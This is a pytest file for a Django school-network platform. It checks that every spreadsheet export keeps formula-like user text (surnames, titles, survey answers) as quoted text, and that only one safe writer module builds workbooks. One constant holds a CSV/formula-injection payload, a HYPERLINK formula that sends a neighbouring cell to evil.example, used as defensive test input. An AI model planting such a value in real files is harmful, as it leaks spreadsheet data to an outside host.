"""Every spreadsheet Metodset hands out: a person's text that looks like a formula stays text.

A teacher can write ``=HYPERLINK(…)`` as her own surname; the coordinator who opens the
attendance list must see that text, not a live link that sends the neighbouring cells away.
Each export below is requested as the person who may have it, with a surname, a position and
other texts that start with ``=``, ``+``, ``-``, ``@``, and read back with openpyxl.
A second test keeps it so: no module outside ``core/spreadsheets.py`` builds a workbook or a
cell itself.
"""

from __future__ import annotations

import ast
import datetime as dt
import io
from dataclasses import dataclass
from decimal import Decimal
from pathlib import Path

import pytest
from django.contrib.auth.models import Permission
from django.urls import reverse
from django.utils import timezone
from openpyxl import load_workbook

import metodset
from metodset.core.spreadsheets import FORMULA_STARTS
from metodset.surveys.models import Question, ResultsExport

from .. import factories
from ..conftest import client_for

LAST = '=HYPERLINK("http://evil.example/?x="&A1,"Петрова")'
FIRST = "+Елена"
MIDDLE = "-Викторовна"
POSITION = "@учитель\x07 начальных классов"  # a bell character XLSX cannot hold
POSITION_SHOWN = "@учитель начальных классов"
FULL_NAME = f"{LAST} {FIRST} {MIDDLE}"


def poison(user) -> None:
    user.last_name, user.first_name, user.middle_name = LAST, FIRST, MIDDLE
    user.position = POSITION
    user.save()


@dataclass
class Export:
    user: object
    url: str
    expected: tuple[str, ...]  # texts some cell must hold exactly as typed

    def content(self) -> bytes:
        response = client_for(self.user).get(self.url)
        assert response.status_code == 200, self.url
        if response.streaming:
            return b"".join(response.streaming_content)
        return response.content


def _attendance(world, request) -> Export:
    poison(world.teacher)
    event = factories.event(organizer=world.school, title="=1+1 семинар")
    factories.registration(event=event, user=world.teacher)
    url = f"/events/{event.pk}/attendance.xlsx"
    return Export(world.methodist, url, (FULL_NAME, POSITION_SHOWN, "=1+1 семинар"))


def _completion(world, request) -> Export:
    from metodset.programs import services
    from metodset.programs.models import Program, ProgramMember, Team

    poison(world.teacher)
    program = services.program_create_from_scheme(
        by=world.coordinator,
        kind=Program.Kind.DIGITAL_INTERNSHIP,
        organizer=world.school,
        network=world.network,
        title="Цифровая интернатура",
        starts_on=timezone.localdate() - dt.timedelta(days=15),
    )
    services.program_publish(program=program)
    services.program_start(program=program)
    team = Team.objects.create(program=program, number=1, name="=Радуга")
    ProgramMember.objects.create(
        program=program, user=world.teacher, role=ProgramMember.Role.INTERN, team=team
    )
    url = reverse("programs:completion", args=[program.pk]) + "?format=xlsx"
    return Export(world.coordinator, url, (FULL_NAME,))


def _routes_board(world, request) -> Export:
    from metodset.routes.models import Route

    poison(world.teacher)
    Route.objects.create(user=world.teacher, organization=world.school, year=2026)
    url = f"/routes/org/{world.school.pk}/board/?year=2026&format=xlsx"
    return Export(world.methodist, url, (FULL_NAME,))


def _heat_maps(world):
    from ..diagnostics.heatmaps.test_heatmaps import Maps

    maps = Maps(world)
    poison(world.teacher)
    return maps


def _heat_map_of_the_school(world, request) -> Export:
    maps = _heat_maps(world)
    url = maps.url(org=world.school, format="xlsx")
    return Export(world.methodist, url, (FULL_NAME,))  # positions are the assessment's own


def _heat_map_of_the_network(world, request) -> Export:
    maps = _heat_maps(world)
    world.school.short_name = "=МБОУ «СОШ № 161»"
    world.school.save()
    world.coordinator.user_permissions.add(
        Permission.objects.get(codename="view_named_results", content_type__app_label="diagnostics")
    )
    return Export(world.coordinator, maps.url(format="xlsx"), ("=МБОУ «СОШ № 161»",))


def _certificates(world, kind: str) -> None:
    from metodset.certificates import services

    poison(world.teacher)
    issuer = services.issuer_for(organization=world.school)
    issuer.license_number = "Л035-01234-59/00123456"  # the ФРДО lists licensed documents
    issuer.save()
    event = factories.event(
        organizer=world.school, title="-Семинар о чтении", starts_in=dt.timedelta(days=-2)
    )
    services.issue_now(
        template=issuer.templates.get(kind=kind),
        users=[world.teacher],
        event=event,
        hours=Decimal(2),
        issued_on=timezone.localdate(),
    )


def _certificate_registry(world, request) -> Export:
    _certificates(world, "participation")
    url = reverse("certificates:registry") + "?format=xlsx"
    return Export(world.methodist, url, (LAST, FIRST, MIDDLE, "-Семинар о чтении"))


def _certificate_registry_frdo(world, request) -> Export:
    _certificates(world, "qualification")
    url = reverse("certificates:registry") + "?format=frdo"
    return Export(world.methodist, url, (LAST, FIRST, MIDDLE))


def _questionnaire_responses(world, request) -> Export:
    from ..surveys import factories as survey_factories

    poison(world.teacher)
    q = survey_factories.questionnaire(by=world.coordinator, network=world.network, title="@Итоги")
    text = survey_factories.question(q, Question.Kind.LONG_TEXT, "=Что было полезно?")
    survey_factories.respond(q, {text: "=1+1 это не формула"}, user=world.teacher)
    client = client_for(world.coordinator)
    with request.getfixturevalue("django_capture_on_commit_callbacks")(execute=True):
        assert client.post(f"/surveys/{q.pk}/export/", HTTP_HX_REQUEST="true").status_code == 200
    export = ResultsExport.objects.get()
    url = f"/surveys/{q.pk}/export/{export.pk}/download/"
    return Export(world.coordinator, url, (FULL_NAME, "=1+1 это не формула", "@Итоги"))


def _children_results(world, request) -> Export:
    from metodset.diagnostics.results import parsing as result_parsing
    from metodset.diagnostics.results import services as result_services

    row = result_parsing.ResultInput(
        "=3 В", "+Русский язык", "-Орфография", dt.date(2025, 9, 10), 74
    )
    report = result_services.results_save(organization=world.school, rows=[row], by=world.methodist)
    url = reverse("diagnostics:results_detail", args=[report.tables[0].pk]) + "?format=xlsx"
    return Export(world.methodist, url, ("=3 В", "+Русский язык", "-Орфография"))


def _children_results_template(world, request) -> Export:
    url = reverse("diagnostics:results_import") + "?format=template"
    return Export(world.methodist, url, ())


def _test_items_template(world, request) -> Export:
    from metodset.diagnostics.instruments import services as instrument_services
    from metodset.diagnostics.models import Framework

    test = instrument_services.test_create(
        framework=Framework.objects.get(slug="pedagog-544n"),
        title="=Оценивание на уроке",
        organization=world.school,
        by=world.methodist,
    )
    url = reverse("diagnostics:test_detail", args=[test.pk]) + "?format=template"
    return Export(world.methodist, url, ())


def _framework(world, request) -> Export:
    from metodset.diagnostics.models import Framework

    framework = Framework.objects.get(slug="pedagog-544n")
    framework.title = "=Профессиональный стандарт"
    framework.save()
    url = reverse("diagnostics:framework", args=[framework.pk]) + "?format=xlsx"
    return Export(world.teacher, url, ("=Профессиональный стандарт",))


EXPORTS = [
    _attendance,
    _completion,
    _routes_board,
    _heat_map_of_the_school,
    _heat_map_of_the_network,
    _certificate_registry,
    _certificate_registry_frdo,
    _questionnaire_responses,
    _children_results,
    _children_results_template,
    _test_items_template,
    _framework,
]

# Where exports are answered, and how many: a new one fails
# test_every_export_call_site_is_in_the_list until it has a builder above.
CALL_SITES = {
    "events/views/organiser.py": 1,  # attendance
    "programs/views/running.py": 1,  # completion
    "routes/views/organization.py": 1,  # routes board
    "diagnostics/heatmaps/views.py": 2,  # heat maps of the network and of a school
    "certificates/exports.py": 2,  # registry and ФРДО
    "surveys/exports.py": 1,  # questionnaire responses
    "diagnostics/results/views.py": 2,  # children's results and its template
    "diagnostics/instruments/views.py": 1,  # items template
    "diagnostics/frameworks/views.py": 1,  # framework
    # import examples (its own xlsx_bytes, called twice, wraps ours): built ahead, no one's text
    "accounts/importing/examples.py": 3,
}


@pytest.mark.parametrize("build", EXPORTS, ids=lambda b: b.__name__.strip("_"))
def test_no_cell_of_an_export_is_a_formula_and_the_text_is_intact(world, request, build):
    export = build(world, request)
    book = load_workbook(io.BytesIO(export.content()))
    texts = []
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", f"{sheet.title}!{cell.coordinate}: {cell.value}"
                if isinstance(cell.value, str):
                    assert "\x07" not in cell.value
                    if cell.value.startswith(FORMULA_STARTS):
                        assert cell.quotePrefix, f"{sheet.title}!{cell.coordinate}"
                    texts.append(cell.value)
    for expected in export.expected:
        assert any(expected in text for text in texts), expected


def test_every_sheet_of_the_heat_map_of_a_school_names_the_teacher_as_text(world, request):
    export = _heat_map_of_the_school(world, request)
    book = load_workbook(io.BytesIO(export.content()))
    named = [s.title for s in book.worksheets if any(c.value == FULL_NAME for c in s["A"])]
    assert len(named) >= 2  # the mean levels and the deficit shares


def test_every_export_call_site_is_in_the_list():
    found: dict[str, int] = {}
    for path in SOURCE.rglob("*.py"):
        relative = path.relative_to(SOURCE).as_posix()
        if relative.startswith(("core/", "bench/")):
            continue
        for node in ast.walk(ast.parse(path.read_text(encoding="utf-8"))):
            if isinstance(node, ast.Call):
                name = getattr(node.func, "id", None) or getattr(node.func, "attr", None)
                if name in ("xlsx_response", "xlsx_bytes"):
                    found[relative] = found.get(relative, 0) + 1
    assert found == CALL_SITES


# --- no module writes a workbook or a cell of its own ---------------------------------------

SOURCE = Path(metodset.__file__).parent
WRITER = SOURCE / "core" / "spreadsheets.py"
FORBIDDEN = {"Workbook", "WriteOnlyCell", "Cell", "WriteOnlyWorksheet", "Worksheet"}


def _offences(path: Path) -> list[str]:
    found = []
    for node in ast.walk(ast.parse(path.read_text(encoding="utf-8"))):
        if isinstance(node, ast.ImportFrom) and (node.module or "").startswith("openpyxl"):
            found += [f"{path}: imports {a.name}" for a in node.names if a.name in FORBIDDEN]
        elif (
            isinstance(node, ast.Attribute)
            and node.attr in FORBIDDEN
            and isinstance(node.value, ast.Name)
            and node.value.id == "openpyxl"
        ):
            found.append(f"{path}: openpyxl.{node.attr}")
    return found


def test_only_the_safe_writer_builds_workbooks_and_cells():
    offences = []
    for path in SOURCE.rglob("*.py"):
        if path == WRITER or "bench" in path.relative_to(SOURCE).parts:
            continue
        offences += _offences(path)
    assert offences == []


def test_the_guard_sees_a_module_that_builds_its_own_workbook(tmp_path):
    module = tmp_path / "export.py"
    module.write_text("from openpyxl import Workbook\nimport openpyxl\nopenpyxl.Workbook()\n")
    assert len(_offences(module)) == 2
